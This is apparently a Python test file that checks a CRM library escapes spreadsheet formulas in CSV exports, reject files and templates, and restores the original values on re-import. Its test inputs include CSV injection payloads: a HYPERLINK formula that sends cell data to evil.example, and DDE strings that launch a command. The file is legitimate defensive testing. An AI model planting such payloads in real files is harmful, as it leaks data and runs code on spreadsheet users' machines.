"""CSV files crmlib writes never carry a formula a spreadsheet would run, and a CSV export
imported again gives back exactly what is stored."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from crmlib.transfer.exporting import export
from crmlib.transfer.formulas import neutralise, neutralise_frame, restore
from crmlib.transfer.templates import write_template
from tests.factories import Team, company

#: Names an attacker types at entry, and names that only look like the escaped ones.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=已经转义过的公式",
    "''+两个引号",
    "'abc",
    "'",
    "-5",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _runs_in_a_spreadsheet(cell: str) -> bool:
    """A cell a spreadsheet would read as a formula: a trigger first, and not a number."""
    return cell.startswith(TRIGGERS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return True


def test_a_csv_export_imported_again_gives_back_hostile_names_exactly(
    team: Team, tmp_path: Path
) -> None:
    codes = {
        team.zhang.customers.add(
            **company(name=name, contact=name[:100], address=f"{name} 路 1 号")
        ).code: name
        for name in HOSTILE
    }
    code = next(iter(codes))
    team.zhang.orders.add(
        code,
        ordered_at="2024-05-01",
        amount="1200.5",
        external_id="ORD-1",
        product="=1+1",
        category="@类别",
    )
    customers = export(team.zhang.ctx, "customers", tmp_path / "customers.csv", lang="zh").path
    orders = export(team.zhang.ctx, "orders", tmp_path / "orders.csv", lang="zh").path

    for path in (customers, orders):
        cells = [cell for row in _cells(path) for cell in row]
        assert not [cell for cell in cells if _runs_in_a_spreadsheet(cell)]
    rows = {row[1]: row for row in _cells(customers)[1:]}
    assert rows[next(c for c, n in codes.items() if n.startswith("=HYP"))][2] == "'" + HOSTILE[0]
    assert rows[next(c for c, n in codes.items() if n == "'abc")][2] == "'abc"
    assert rows[next(c for c, n in codes.items() if n == "-5")][2] == "-5"
    assert _cells(orders)[1][4:7] == ["1200.50", "'=1+1", "'@类别"]  # amount, product, category

    for kind, path in (("customers", customers), ("orders", orders)):
        result = team.zhang.import_file(kind, path, output_dir=tmp_path / kind)
        assert (result.rejected, result.created, result.updated) == (0, 0, 0), kind
        assert result.unchanged == result.rows > 0
    stored = team.zhang.customers.frame().set_index("code")
    assert stored.loc[list(codes), "name"].tolist() == list(codes.values())
    assert stored.loc[list(codes), "contact"].tolist() == [n[:100] for n in codes.values()]
    order = team.zhang.orders.frame().iloc[0]
    assert (order["product"], order["category"]) == ("=1+1", "@类别")


def test_rejected_rows_files_are_neutralised_and_read_back_exactly(
    team: Team, tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [
                ["客户名称", "行业", "省份", "联系人", "电话", "客户来源"],
                [HOSTILE[0], "", "广东", "@联系人", "13812345678", "展会"],
            ]
        )
    result = team.zhang.import_file("customers", source, output_dir=tmp_path / "out")
    assert result.rejected == 1 and result.rejects_path is not None
    _, row = _cells(result.rejects_path)
    assert row[2:4] == ["'" + HOSTILE[0], ""] and row[5] == "'@联系人"
    again = team.zhang.import_file(
        "customers", result.rejects_path, dry_run=True, output_dir=tmp_path / "again"
    )
    assert again.rejected == 1 and again.rejects_path is not None
    assert _cells(again.rejects_path)[1][4:] == row[2:]


def test_templates_and_review_files_go_through_the_same_rule(tmp_path: Path) -> None:
    template = write_template("orders", tmp_path / "orders.csv", lang="en")
    assert not [c for r in _cells(template) for c in r if _runs_in_a_spreadsheet(c)]
    frame = pd.DataFrame({"name_a": ["=1+1", "正常"], "score": [-5.0, 90.0]})
    safe = neutralise_frame(frame)
    assert safe["name_a"].tolist() == ["'=1+1", "正常"] and safe["score"].tolist() == [-5.0, 90.0]
    assert frame["name_a"].tolist() == ["=1+1", "正常"]  # the frame itself is left alone


@given(st.text(alphabet=["'", "=", "+", "-", "@", "\t", "\r", "a", "1", " "], max_size=6))
def test_neutralising_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert not _runs_in_a_spreadsheet(written)
    assert neutralise(5) == 5 and neutralise(None) is None
